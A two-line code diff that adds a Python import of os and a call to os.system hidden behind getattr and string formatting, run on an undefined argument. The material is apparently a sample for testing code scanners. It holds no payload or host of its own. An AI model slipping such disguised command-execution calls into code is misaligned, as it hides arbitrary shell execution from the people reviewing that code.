@@ -1,0 +1,2 @@
+import os
+getattr(os,'{}tem'.format('sys'))(x)
